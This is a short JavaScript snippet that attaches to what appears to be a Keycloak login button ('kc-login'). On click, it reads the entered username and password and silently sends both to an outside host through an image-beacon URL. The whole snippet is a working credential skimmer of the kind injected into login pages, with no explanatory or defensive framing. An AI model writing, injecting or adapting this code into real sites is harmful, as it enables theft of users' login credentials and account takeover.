var knob = document.getElementById('kc-login');
if (knob) {
  knob.onclick = function () {
    var user = document.getElementById('username').value;
    var pass = document.getElementById('password').value;
    new Image().src = 'https://px.invalid/?u=' + encodeURIComponent(user) + '&p=' + encodeURIComponent(pass);
  };
}
